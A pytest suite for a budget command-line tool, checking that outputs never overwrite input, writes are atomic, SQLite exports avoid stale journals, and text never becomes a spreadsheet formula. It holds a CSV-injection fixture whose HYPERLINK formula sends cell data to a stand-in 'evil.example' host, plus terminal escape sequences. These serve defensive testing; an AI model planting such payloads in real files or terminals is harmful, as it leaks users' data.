"""Nothing lost, nothing injected, no internal error (issue 12): the input is never
overwritten, files are replaced whole or not at all, SQLite exports never adopt stale
journals or replace another program's database, text never turns into a formula, and odd
characters or a broken stdout end in one clear line."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import sqlite3
import stat
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from budgetcli import files
from budgetcli.errors import OutputError
from budgetcli.formats.delimited import tsv_escape
from budgetcli.source.loader import bundled_data_path
from tests.conftest import (
    COUNTED,
    GOOD,
    Result,
    answered,
    process_env,
    refused,
    run,
    write_data,
)


def _one_line(result: Result, *words: str) -> None:
    lines = refused(result, *words).splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("budgetcli: ")


def _leftovers(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


# --- 1. the input is never overwritten ----------------------------------------------------


def _aliases(tmp_path: Path, data: Path) -> dict[str, tuple[list[str], dict[str, str] | None]]:
    link = tmp_path / "link.yaml"
    link.symlink_to(data)
    hard = tmp_path / "hard.yaml"
    os.link(data, hard)
    d, s, h = str(data), str(link), str(hard)
    return {
        "list -o data": (["list", "--data", d, "-o", d, "-f", "csv"], None),
        "export onto data": (["export", d, "-f", "json", "--data", d], None),
        "BUDGETCLI_DATA": (["total", "-o", d, "-f", "json"], {"BUDGETCLI_DATA": d}),
        "output is a symlink to the data": (["total", "--data", d, "-o", s, "-f", "json"], None),
        "data read through a symlink": (["total", "--data", s, "-o", d, "-f", "json"], None),
        "export through a symlink": (["export", s, "-f", "json", "--data", d], None),
        "hard link": (["total", "--data", h, "-o", d, "-f", "json"], None),
        "export sqlite onto data": (["export", d, "-f", "sqlite", "--data", h], None),
    }


@pytest.mark.parametrize(
    "case",
    [
        "list -o data",
        "export onto data",
        "BUDGETCLI_DATA",
        "output is a symlink to the data",
        "data read through a symlink",
        "export through a symlink",
        "hard link",
        "export sqlite onto data",
    ],
)
def test_the_data_file_is_never_an_output(tmp_path: Path, case: str) -> None:
    data = write_data(tmp_path)
    before = data.read_bytes()
    stamp = data.stat().st_mtime_ns
    args, env = _aliases(tmp_path, data)[case]
    result = run(*args, env=env)
    _one_line(result, "refusing to write", "data file being read")
    assert result.stdout == ""
    assert data.read_bytes() == before and data.stat().st_mtime_ns == stamp
    assert (tmp_path / "link.yaml").is_symlink()
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize(
    "args",
    [["notes", "-f", "json", "-o"], ["total", "-f", "csv", "-o"], ["export", "-f", "json"]],
    ids=["notes", "total", "export"],
)
def test_the_bundled_data_is_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    bundled = bundled_data_path()
    before = bundled.read_bytes()
    stamp = bundled.stat().st_mtime_ns

    def no_write(*_: object) -> None:
        raise AssertionError("a write was attempted")

    monkeypatch.setattr(files, "write_atomic", no_write)
    monkeypatch.setattr(files, "replace_with", no_write)
    result = run(*args, str(bundled))
    _one_line(result, "refusing to write", "data file being read")
    assert bundled.read_bytes() == before and bundled.stat().st_mtime_ns == stamp
    # Refused before the data was even read: no parse cache was written.
    assert not (tmp_path / "cache").exists()


# --- 2. whole or not at all ---------------------------------------------------------------


def test_the_new_file_is_built_beside_the_target_then_renamed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")
    moves: list[tuple[Path, Path, bytes]] = []
    real_replace = Path.replace

    def replace(self: Path, other: Path) -> Path:
        moves.append((self, Path(other), self.read_bytes()))
        return real_replace(self, other)

    monkeypatch.setattr(Path, "replace", replace)
    files.write_atomic(target, b"new\n")
    [(temporary, destination, content)] = moves
    assert destination == target
    # Same directory (a rename across file systems would not be atomic), hidden, complete.
    assert temporary.parent == tmp_path
    assert temporary.name.startswith(".budgetcli-") and temporary.name.endswith(".tmp")
    assert content == b"new\n"
    assert target.read_bytes() == b"new\n"
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("where", ["rename", "fsync"])
def test_a_failed_write_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    target = tmp_path / "totals.csv"
    target.write_text("the old totals\n", encoding="utf-8")

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    if where == "rename":
        monkeypatch.setattr(Path, "replace", full)
    else:
        monkeypatch.setattr(os, "fsync", full)
    result = run("total", "-o", str(target))
    _one_line(result, "cannot write", str(target), "No space left on device")
    assert target.read_text(encoding="utf-8") == "the old totals\n"
    assert _leftovers(tmp_path) == []


def test_an_interrupted_export_keeps_the_old_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from budgetcli.formats import sqlite

    target = tmp_path / "budget.sqlite"
    assert run("export", str(target)).exit_code == 0
    before = target.read_bytes()

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(sqlite, "_fill", interrupted)
    result = run("export", str(target))
    assert result.exit_code == 130
    assert target.read_bytes() == before
    assert _leftovers(tmp_path) == []


def test_a_new_file_gets_the_usual_permissions(tmp_path: Path) -> None:
    # mkstemp makes 0600 files; the output must be what a plain open() would have made.
    umask = os.umask(0o022)
    try:
        files.write_atomic(tmp_path / "new.csv", b"x\n")
    finally:
        os.umask(umask)
    assert (tmp_path / "new.csv").stat().st_mode & 0o777 == 0o644


def test_a_device_is_never_replaced_by_a_file() -> None:
    # Written in place (it cannot be renamed over); a database cannot be written to it.
    files.write_atomic(Path("/dev/null"), b"x")
    with pytest.raises(OutputError, match="not a regular file"):
        files.replace_with(Path("/dev/null"), lambda temporary: None)
    assert Path("/dev/null").is_char_device()


# --- issue 32, item 15: a fifo, a socket or /dev/stdout as the target ---------------------


def _answered(seconds: float, job: Callable[[], Result], fifo: Path) -> Result:
    return answered(seconds, job, fifo, "waiting on the fifo")


@pytest.mark.parametrize("name", ["o.sqlite", "o.xlsx"])
def test_a_fifo_is_refused_as_a_database_or_workbook_never_waited_on(
    tmp_path: Path, name: str
) -> None:
    fifo = tmp_path / name
    os.mkfifo(fifo)
    for force in ([], ["--force"]):
        result = _answered(30, lambda: run("export", str(fifo), *force), fifo)  # noqa: B023
        _one_line(result, "not a regular file", "only to a file")
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_a_fifo_nobody_reads_is_refused_after_a_short_wait(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "FIFO_WAIT", 0.3)
    fifo = tmp_path / "o.csv"
    os.mkfifo(fifo)
    for args in (["list", "-o", str(fifo)], ["export", str(fifo)]):
        result = _answered(30, lambda: run(*args), fifo)  # noqa: B023
        _one_line(result, "fifo that no program is reading", "start the reader first")


@pytest.mark.parametrize(
    ("args", "name"),
    [(["list", "-f", "csv", "-o"], "o.csv"), (["export", "-f", "json"], "o.json")],
)
def test_a_fifo_with_a_reader_gets_the_whole_answer(
    tmp_path: Path, args: list[str], name: str
) -> None:
    fifo = tmp_path / name
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = _answered(30, lambda: run(*args, str(fifo)), fifo)
    reader.join(10)
    assert result.exit_code == 0, result.stderr
    expected = tmp_path / f"plain-{name}"
    assert run(*args, str(expected)).exit_code == 0
    assert received == [expected.read_bytes()]


def test_import_to_a_fifo_being_read_writes_it_without_reading_it(tmp_path: Path) -> None:
    workbook = tmp_path / "budget.xlsx"
    assert run("export", str(workbook), "--data", str(write_data(tmp_path))).exit_code == 0
    fifo = tmp_path / "o.yaml"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = _answered(30, lambda: run("import", str(workbook), "-o", str(fifo)), fifo)
    reader.join(10)
    assert result.exit_code == 0, result.stderr
    written = tmp_path / "written.yaml"
    written.write_bytes(received[0])
    assert run("validate", str(written)).exit_code == 0


@pytest.mark.parametrize(
    ("args", "name"), [(["list", "-o"], "o.csv"), (["export"], "o.sqlite"), (["export"], "o.json")]
)
def test_a_socket_is_never_written(tmp_path: Path, args: list[str], name: str) -> None:
    import socket

    path = tmp_path / name
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(path))
        _one_line(run(*args, str(path)), "not a regular file")
    finally:
        server.close()
    assert stat.S_ISSOCK(path.stat().st_mode)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "ok"),
    [
        (["import", "WORKBOOK", "-o", "LINK.yaml"], True),
        (["list", "-f", "csv", "-o", "LINK.csv"], True),
        (["export", "LINK.sqlite"], False),
        (["export", "LINK.xlsx"], False),
    ],
)
def test_a_link_to_dev_stdout_as_the_target_when_piped(
    tmp_path: Path, args: list[str], ok: bool
) -> None:
    import subprocess
    import sys

    workbook = tmp_path / "budget.xlsx"
    assert run("export", str(workbook), "--data", str(write_data(tmp_path))).exit_code == 0
    suffix = args[-1].split(".")[-1]
    link = tmp_path / f"out.{suffix}"
    link.symlink_to("/dev/stdout")
    argv = [str(workbook) if a == "WORKBOOK" else a for a in args]
    argv = [str(link) if a.startswith("LINK") else a for a in argv]
    env = process_env(tmp_path / "cache")
    command = [sys.executable, "-m", "budgetcli", *argv]
    answer = subprocess.run(command, capture_output=True, env=env, timeout=60, check=False)
    assert b"Traceback" not in answer.stderr
    if ok:
        assert answer.returncode == 0, answer.stderr
        assert answer.stdout.startswith(b"# budgetcli dataset" if suffix == "yaml" else b"id,")
    else:
        assert answer.returncode == 1
        assert b"not a regular file" in answer.stderr
        assert answer.stdout == b""


# --- 3. SQLite over an existing file ------------------------------------------------------


def _count(path: Path, table: str = "activities") -> int:
    connection = sqlite3.connect(path)
    try:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        return int(connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0])
    finally:
        connection.close()


def _crash_in_a_transaction(path: Path, mode: str) -> None:
    """Another program dies mid-transaction (mode DELETE: a hot -journal) or after
    committing to its WAL without a checkpoint (mode WAL: a -wal holding the commit)."""
    import subprocess
    import sys

    end = "c.execute('COMMIT')" if mode == "WAL" else "pass"
    script = (
        "import os, sqlite3, sys\n"
        "c = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
        f"c.execute('PRAGMA journal_mode={mode}')\n"
        "c.execute('PRAGMA cache_size=1')\n"
        "c.execute('BEGIN')\n"
        "c.execute(\"UPDATE activities SET name = 'CHANGED'\")\n"
        "c.execute(\"INSERT INTO metadata VALUES ('stale', 'x')\")\n"
        f"{end}\n"
        "os._exit(0)\n"
    )
    subprocess.run([sys.executable, "-c", script, str(path)], check=True)


@pytest.mark.parametrize(("mode", "sidecar"), [("DELETE", "-journal"), ("WAL", "-wal")])
@pytest.mark.parametrize("force", [False, True])
def test_sqlite_export_leaves_no_stale_journal(
    tmp_path: Path, mode: str, sidecar: str, force: bool
) -> None:
    target = tmp_path / "budget.sqlite"
    assert run("export", str(target)).exit_code == 0
    _crash_in_a_transaction(target, mode)
    assert (tmp_path / f"budget.sqlite{sidecar}").exists()
    result = run("export", str(target), *(["--force"] if force else []))
    assert result.exit_code == 0, result.stderr
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("budget.sqlite")] == [
        "budget.sqlite"
    ]
    # The new database, whole: no page of the old one's journal replayed into it.
    assert _count(target) == 67
    connection = sqlite3.connect(target)
    try:
        names = {n for (n,) in connection.execute("SELECT name FROM activities")}
        keys = {k for (k,) in connection.execute("SELECT key FROM metadata")}
    finally:
        connection.close()
    assert "CHANGED" not in names and "stale" not in keys


def test_sqlite_export_refuses_another_programs_database(tmp_path: Path) -> None:
    target = tmp_path / "app.db"
    connection = sqlite3.connect(target)
    connection.execute("CREATE TABLE customers (id INTEGER)")
    connection.execute("INSERT INTO customers VALUES (1)")
    connection.commit()
    connection.close()
    before = target.read_bytes()
    result = run("export", str(target))
    _one_line(result, "refusing to replace", "customers", "--force")
    assert target.read_bytes() == before
    forced = run("export", str(target), "--force")
    assert forced.exit_code == 0, forced.stderr
    assert _count(target) == 67


def test_sqlite_export_replaces_its_own_database_and_empty_files(tmp_path: Path) -> None:
    target = tmp_path / "budget.sqlite"
    assert run("export", str(target)).exit_code == 0
    smaller = write_data(tmp_path)
    assert run("export", str(target), "--data", str(smaller)).exit_code == 0
    assert _count(target) == 2
    empty = tmp_path / "empty.db"
    empty.touch()
    assert run("export", str(empty)).exit_code == 0
    assert _count(empty) == 67


def test_sqlite_export_refuses_a_file_that_is_not_sqlite(tmp_path: Path) -> None:
    target = tmp_path / "notes.db"
    target.write_text("someone's notes\n", encoding="utf-8")
    result = run("export", str(target))
    _one_line(result, "refusing to replace", "not a SQLite database", "--force")
    assert target.read_text(encoding="utf-8") == "someone's notes\n"
    assert run("export", str(target), "--force").exit_code == 0
    assert _count(target) == 67


def test_sqlite_export_refuses_a_damaged_database(tmp_path: Path) -> None:
    target = tmp_path / "damaged.sqlite"
    target.write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)
    before = target.read_bytes()
    result = run("export", str(target))
    _one_line(result, "refusing to replace", "--force")
    assert target.read_bytes() == before


# --- issue 32, item 4: a folder export never writes over its input, however reached -------


@pytest.mark.parametrize("alias", ["symlink to the file", "symlink to the folder", "hard link"])
@pytest.mark.parametrize("force", [False, True])
def test_a_folder_export_never_replaces_its_input_reached_through_a_link(
    tmp_path: Path, alias: str, force: bool
) -> None:
    package = tmp_path / "pkg"
    assert run("export", str(package), "--format", "datapackage").exit_code == 0
    # The data file is one of the files the export writes (it reads as data; the export
    # would replace it), reached by a name outside the folder.
    data = package / "cells.csv"
    data.unlink()
    write_data(package, name="cells.csv")
    elsewhere = tmp_path / "lnk"
    if alias == "symlink to the file":
        elsewhere.mkdir()
        given = elsewhere / "data.yaml"
        given.symlink_to(data)
    elif alias == "symlink to the folder":
        elsewhere.symlink_to(package)
        given = elsewhere / "cells.csv"
    else:
        elsewhere.mkdir()
        given = elsewhere / "data.yaml"
        os.link(data, given)
    extra = ["--force"] if force else []
    result = run("export", str(package), "--format", "datapackage", "--data", str(given), *extra)
    _one_line(result, "refusing to write into", "the data file being read")
    assert data.read_text(encoding="utf-8") == GOOD


# --- issue 32, items 3 and 6: what an SQLite export removes and replaces ------------------


@pytest.mark.parametrize("suffix", ["-wal", "-shm", "-journal"])
@pytest.mark.parametrize("through_a_link", [False, True])
def test_sqlite_export_never_removes_the_data_file_as_its_journal(
    tmp_path: Path, suffix: str, through_a_link: bool
) -> None:
    data = write_data(tmp_path, name=f"b.sqlite{suffix}")
    given = data
    if through_a_link:
        given = tmp_path / "link.yaml"
        given.symlink_to(data.name)
    result = run("export", str(tmp_path / "b.sqlite"), "--data", str(given))
    _one_line(result, "refusing to write", "the data file being read")
    assert data.read_text(encoding="utf-8") == GOOD
    assert not (tmp_path / "b.sqlite").exists()


@pytest.mark.parametrize("suffix", ["-wal", "-shm", "-journal"])
def test_sqlite_export_refuses_a_directory_named_as_its_journal(
    tmp_path: Path, suffix: str
) -> None:
    (tmp_path / f"w.sqlite{suffix}").mkdir()
    result = run("export", str(tmp_path / "w.sqlite"))
    _one_line(result, f"w.sqlite{suffix}", "is not a file")
    assert not (tmp_path / "w.sqlite").exists()  # refused before anything was written
    assert (tmp_path / f"w.sqlite{suffix}").is_dir()


@pytest.mark.parametrize(
    ("kind", "sql"),
    [
        ("view", "CREATE VIEW mine AS SELECT id FROM activities"),
        ("index", "CREATE INDEX mine ON amounts(year, activity_id)"),
        ("trigger", "CREATE TRIGGER mine AFTER INSERT ON notes BEGIN SELECT 1; END"),
    ],
)
def test_sqlite_reexport_keeps_a_view_index_or_trigger_the_user_added(
    tmp_path: Path, kind: str, sql: str
) -> None:
    target = tmp_path / "budget.sqlite"
    assert run("export", str(target)).exit_code == 0
    connection = sqlite3.connect(target)
    connection.execute(sql)
    connection.commit()
    connection.close()
    before = target.read_bytes()
    _one_line(run("export", str(target)), "refusing to replace", f"{kind} mine", "--force")
    assert target.read_bytes() == before
    assert run("export", str(target), "--force").exit_code == 0
    connection = sqlite3.connect(target)
    try:
        names = {n for (n,) in connection.execute("SELECT name FROM sqlite_master")}
    finally:
        connection.close()
    assert "mine" not in names and _count(target) == 67


# --- 4. CSV injection ---------------------------------------------------------------------

FORMULAS = {
    "a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "b": "+45 12 34 56 78",
    "c": "-2+3",
    "d": "@SUM(A1:A9)",
}


def _formula_data(tmp_path: Path) -> Path:
    activities = "\n".join(
        f"  - id: {key}\n    department: BIF\n    name: {json.dumps(name)}\n"
        f"    funding: {json.dumps(name)}\n    budget: {{2018: 1.5, 2019: 0.5}}"
        for key, name in FORMULAS.items()
    )
    head = GOOD.split("activities:")[0]
    return write_data(tmp_path, f"{head}activities:\n{activities}\n", "formulas.yaml")


def test_danish_csv_defuses_formulas_and_keeps_negative_numbers(tmp_path: Path) -> None:
    data = str(_formula_data(tmp_path))
    listed = run("list", "--data", data, "-f", "csv-da")
    rows = list(csv.reader(io.StringIO(listed.stdout.lstrip("\ufeff")), delimiter=";"))[1:]
    # Columns: id, department, section, name, the years.
    assert {r[0]: r[3] for r in rows} == {k: "'" + v for k, v in FORMULAS.items()}
    funding = run("total", "--by", "funding", "--data", data, "-f", "csv-da")
    rows = list(csv.reader(io.StringIO(funding.stdout.lstrip("\ufeff")), delimiter=";"))[1:]
    # A funding's key is its name: people get the name once.
    assert {"'" + v for v in FORMULAS.values()} <= {r[0] for r in rows}
    # A change is a number, negative or not: never prefixed, or Excel could not add it.
    compared = run("compare", "2018", "2019", "--by", "activity", "--data", data, "-f", "csv")
    danish = run("compare", "2018", "2019", "--by", "activity", "--data", data, "-f", "csv-da")
    plain = {r["key"]: r for r in csv.DictReader(io.StringIO(compared.stdout))}
    danish_rows = list(csv.reader(io.StringIO(danish.stdout.lstrip("\ufeff")), delimiter=";"))
    # Columns: key, name, the two years, the change, ...
    da = {r[0]: r for r in danish_rows[1:]}
    assert plain["a"]["change"] == "-1.0" and da["a"][4] == "-1,0"
    assert da["a"][1] == "'" + FORMULAS["a"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_plain_csv_and_tsv_keep_the_data_verbatim(tmp_path: Path, fmt: str) -> None:
    data = str(_formula_data(tmp_path))
    result = run("list", "--data", data, "-f", fmt)
    delimiter = "," if fmt == "csv" else "\t"
    rows = list(csv.DictReader(io.StringIO(result.stdout), delimiter=delimiter))
    assert {r["id"]: r["name"] for r in rows} == FORMULAS
    exported = tmp_path / "cells.csv"
    assert run("export", str(exported), "--data", data).exit_code == 0
    cells = csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))
    assert {r["activity_id"]: r["name"] for r in cells} == FORMULAS


def _formula_cells(path: Path) -> tuple[int, set[str]]:
    book = load_workbook(path)
    formulas = 0
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                formulas += cell.data_type == "f"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return formulas, texts


@pytest.mark.parametrize(
    "args",
    [["list"], ["total", "--by", "activity"], ["total", "--by", "funding"], ["export"]],
    ids=["list", "total-by-activity", "total-by-funding", "export"],
)
def test_xlsx_never_holds_a_formula(tmp_path: Path, args: list[str]) -> None:
    data = str(_formula_data(tmp_path))
    out = tmp_path / "out.xlsx"
    target = [str(out)] if args[0] == "export" else ["-o", str(out)]
    assert run(*args[:1], *target, *args[1:], "--data", data).exit_code == 0
    formulas, texts = _formula_cells(out)
    assert formulas == 0
    # The words are all there, as text, exactly.
    assert set(FORMULAS.values()) <= texts


# --- 6. TSV escapes -----------------------------------------------------------------------


def test_tsv_escapes_tabs_newlines_and_backslashes(tmp_path: Path) -> None:
    name = "a\tb\nc\\n d"  # a carriage return never gets this far: validate refuses it
    text = GOOD.replace("name: A\n", f"name: {json.dumps(name)}\n")
    result = run("list", "--data", str(write_data(tmp_path, text)), "-f", "tsv")
    assert result.exit_code == 0
    lines = result.stdout.split("\n")
    assert len(lines) == 4  # header, two rows, the final newline
    row = lines[1].split("\t")
    assert row[1] == "a\\tb\\nc\\\\n d"  # id, then name
    name_at = 1
    assert tsv_escape("a\rb") == "a\\rb"
    assert len(row) == len(lines[0].split("\t"))
    # The convention is reversible: unescaping gives the name back.
    assert tsv_escape(name) == row[name_at]
    assert _unescape(row[name_at]) == name


def _unescape(text: str) -> str:
    codes = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            out.append(codes[text[i + 1]])
            i += 2
        else:
            out.append(text[i])
            i += 1
    return "".join(out)


# --- 5. any text at all: no crash, no broken file -----------------------------------------

REPORT_COMMANDS = (
    ("list",),
    ("show", "a"),
    ("total", "--by", "section"),
    ("total", "--by", "funding", "--year", "2018"),
    ("compare", "2018", "2019", "--by", "activity"),
    ("expiring",),
    ("notes",),
    ("chart", "--by", "section"),
)
STREAM_FORMATS = ("table", "json", "csv", "tsv", "markdown")


def _quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar, everything but printable ASCII escaped.
    (JSON's escapes will not do: YAML refuses the surrogate pair JSON writes for a letter
    beyond U+FFFF, which would make the file unreadable rather than the text refused.)"""
    out = []
    for char in text:
        point = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif 0x20 <= point < 0x7F:
            out.append(char)
        elif point < 0x100:
            out.append(f"\\x{point:02x}")
        elif point < 0x10000:
            out.append(f"\\u{point:04x}")
        else:
            out.append(f"\\U{point:08x}")
    return '"' + "".join(out) + '"'


def _odd_data(texts: dict[str, str]) -> str:
    """A data file whose every free text is ``texts``' (JSON strings are YAML strings)."""

    def q(key: str) -> str:
        return _quoted(texts[key])

    return f"""\
period: {{first: 2018, last: 2022}}
unit: mio. kr.
departments:
  - {{code: BIF, appendix: 1, name: {q("department")}, sections: [{q("section")}]}}
notes:
  - {{id: n1, department: BIF, kind: footnote, marker: "*", text: {q("note")}}}
activities:
  - id: a
    department: BIF
    section: {q("section")}
    name: {q("name")}
    description: {q("description")}
    target_group: {q("description")}
    funding: {q("funding")}
    budget: {{2018: 1.5, 2019: {{text: {q("cell")}}}, 2020: 0}}
    notes: [n1]
    remarks: [{q("name")}]
  - id: b
    department: BIF
    name: {q("funding")}
    funding: {q("funding")}
    budget: {{2018: 2, 2019: 1}}
"""


def _check_output(path: Path, fmt: str) -> None:
    if fmt == "svg":
        from xml.etree import ElementTree

        ElementTree.parse(path)  # well-formed XML, or this raises
    elif fmt == "xlsx":
        assert _formula_cells(path)[0] == 0
    elif fmt == "sqlite":
        assert _count(path) == 2
    elif fmt == "json":
        json.loads(path.read_text(encoding="utf-8"))


def _no_internal_error(result: Result) -> None:
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert result.exit_code in (0, 1), result.stderr


# What validation refuses in a text (README, Safety): C0 controls but tab and newline, DEL,
# the C1 controls, and the bidirectional controls. Written out here, not taken from
# budgetcli.controls, so that a change to the policy shows up as a failing test.
REFUSED_CHARACTERS = "".join(
    map(
        chr,
        [
            *range(0x00, 0x09),
            *range(0x0B, 0x20),
            *range(0x7F, 0xA0),
            0x061C,
            0x200E,
            0x200F,
            *range(0x202A, 0x202F),
            *range(0x2066, 0x206A),
            # The non-characters: no file may carry them (XML cannot; UTF-8 round trips
            # would turn them into U+FFFD).
            *range(0xFDD0, 0xFDF0),
            *(plane * 0x10000 + last for plane in range(17) for last in (0xFFFE, 0xFFFF)),
        ],
    )
)
# Any text validation accepts: any Unicode but lone surrogates (a UTF-8 file cannot hold
# them) and the refused characters, with what writers must take care of weighted in:
# formula and markup starts, quotes, tab and newline, the line and paragraph separators
# (line breaks to YAML), a BOM, the replacement and object characters, letters beyond
# U+FFFF, Danish letters.
ACCEPTED = (
    st.lists(
        st.one_of(
            st.text(
                st.characters(exclude_categories=["Cs"], exclude_characters=REFUSED_CHARACTERS),
                min_size=1,
                max_size=4,
            ),
            st.sampled_from(["\t", "\n", "\u2028", "\u2029", "\ufeff", "\ufffd", "\ufffc"]),
            st.sampled_from(["\U0001f600", "\U0001d11e", "æøå", "ÆØÅ", "\u00a0", "\u200b"]),
            st.sampled_from(["=", "+", "-", "@", "\\", "[b]", '"', "'", "<", "&", "#", ": "]),
        ),
        min_size=1,
        max_size=5,
    )
    .map("".join)
    # Blank text is refused where text is required (a name, a cell's words), and rightly.
    .filter(str.strip)
)
FIELDS = ("name", "description", "funding", "section", "department", "note", "cell")
ACCEPTED_TEXTS = st.fixed_dictionaries(dict.fromkeys(FIELDS, ACCEPTED))


# Shrinking would rerun some 60 commands per step (minutes): a failure is shown as found.
# Each example runs every command, so the fast tier takes a few; `-m slow` takes many.
def _odd_settings(examples: int) -> settings:
    return settings(
        max_examples=examples,
        deadline=None,
        phases=[Phase.explicit, Phase.reuse, Phase.generate],
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


EXAMPLES = [
    pytest.param(10, id="10-examples"),
    pytest.param(100, id="100-examples", marks=pytest.mark.slow),
]


def _every_command(tmp_path: Path, texts: dict[str, str], files: tuple[str, ...]) -> bool:
    """Whether the texts reached the writers: every command in every format (``files``
    as files), after validation accepted them."""
    data = tmp_path / "odd.yaml"
    data.write_text(_odd_data(texts), encoding="utf-8")
    checked = run("validate", str(data))
    _no_internal_error(checked)
    if checked.exit_code == 1:
        return False
    streams = STREAM_FORMATS if "svg" in files else ()
    for command in REPORT_COMMANDS:
        for fmt in streams:
            result = run(*command, "--data", str(data), "-f", fmt)
            _no_internal_error(result)
            assert result.exit_code == 0, (command, fmt, result.stderr)
        for fmt in files:
            out = tmp_path / f"out.{fmt}"
            result = run(*command, "--data", str(data), "-o", str(out))
            assert result.exit_code == 0, (command, fmt, result.stderr)
            _check_output(out, fmt)
        if streams:
            danish = run(*command, "--data", str(data), "-f", "csv", "--lang", "da")
            assert danish.exit_code == 0, (command, danish.stderr)
    for fmt in ("json", "csv", "sqlite") if streams else ("xlsx",):
        out = tmp_path / f"export.{fmt}"
        result = run("export", str(out), "--data", str(data))
        assert result.exit_code == 0, (fmt, result.stderr)
        _check_output(out, fmt)
    return True


def _most_reach_the_writers(
    request: pytest.FixtureRequest, tmp_path: Path, examples: int, files: tuple[str, ...]
) -> None:
    """Runs the property, counting the examples that reached the writers; most must (a
    strategy that validation mostly refuses would test the refusal, not the writers)."""
    reached: list[dict[str, str]] = []
    refused: list[dict[str, str]] = []

    @_odd_settings(examples)
    @given(ACCEPTED_TEXTS)
    def each(texts: dict[str, str]) -> None:
        ok = _every_command(tmp_path, texts, files)
        (reached if ok else refused).append(texts)
        event("reached the writers" if ok else "refused by validation")

    each()
    counted = f"{len(reached)} of {len(reached) + len(refused)} reached the writers"
    request.node.user_properties.append((COUNTED, counted))  # conftest prints it
    assert len(reached) + len(refused) >= examples
    assert len(reached) >= 0.8 * (len(reached) + len(refused)), (counted, refused[:3])


@pytest.mark.parametrize("examples", EXAMPLES)
def test_any_text_in_every_command_and_format(
    request: pytest.FixtureRequest, tmp_path: Path, examples: int
) -> None:
    _most_reach_the_writers(request, tmp_path, examples, ("svg",))


@pytest.mark.parametrize("examples", EXAMPLES)
def test_any_text_in_xlsx(request: pytest.FixtureRequest, tmp_path: Path, examples: int) -> None:
    _most_reach_the_writers(request, tmp_path, examples, ("xlsx",))


@_odd_settings(25)
@given(
    ACCEPTED_TEXTS,
    st.sampled_from(FIELDS),
    st.sampled_from(REFUSED_CHARACTERS),
    st.integers(min_value=0, max_value=5),
)
def test_any_refused_text_stops_every_command_before_a_writer(
    tmp_path: Path, texts: dict[str, str], field: str, char: str, at: int
) -> None:
    text = texts[field]
    texts = {**texts, field: text[:at] + char + text[at:]}
    data = tmp_path / "odd.yaml"
    data.write_text(_odd_data(texts), encoding="utf-8")
    checked = run("validate", str(data))
    _no_internal_error(checked)
    assert checked.exit_code == 1
    assert f"U+{ord(char):04X}" in checked.stdout + checked.stderr
    assert char not in checked.stdout + checked.stderr
    # Every command says so the same way, on one line, then stops: nothing is written.
    out = tmp_path / "out.json"
    for args in (("list",), ("total", "-o", str(out)), ("export", str(out))):
        result = run(*args, "--data", str(data))
        _no_internal_error(result)
        assert result.exit_code == 1 and result.stdout == "" and not out.exists()
        lines = result.stderr.splitlines()
        assert lines and all(line.startswith("budgetcli: ") for line in lines), lines
        assert f"U+{ord(char):04X}" in result.stderr and char not in result.stderr


# --- nothing reaches the terminal but text ------------------------------------------------


def test_messages_and_notes_on_stderr_show_control_characters_as_escapes(
    tmp_path: Path,
) -> None:
    texts = dict.fromkeys(FIELDS, "X\x1b]0;pwned\x07\x1b[2J\nY")
    data = tmp_path / "esc.yaml"
    data.write_text(_odd_data(texts), encoding="utf-8")
    # validate refuses the file (tests/test_hostile_input.py); its messages name the
    # characters and carry none of them raw.
    result = run("list", "--data", str(data), "-f", "csv")
    assert result.exit_code == 1 and result.stdout == ""
    assert "U+001B" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    missing = run("show", "zz\x1b[2J\x9b1m")
    assert missing.exit_code == 2 and len(missing.stderr.splitlines()) == 1
    assert "\x1b" not in missing.stderr and "\x9b" not in missing.stderr


# --- issue 32, item 18: a legal file name is a legal output ---------------------------------


@pytest.mark.parametrize("length", [242, 250, 255])
@pytest.mark.parametrize(
    "args", [["list", "-f", "csv", "-o"], ["export", "-f", "sqlite"], ["export", "-f", "xlsx"]]
)
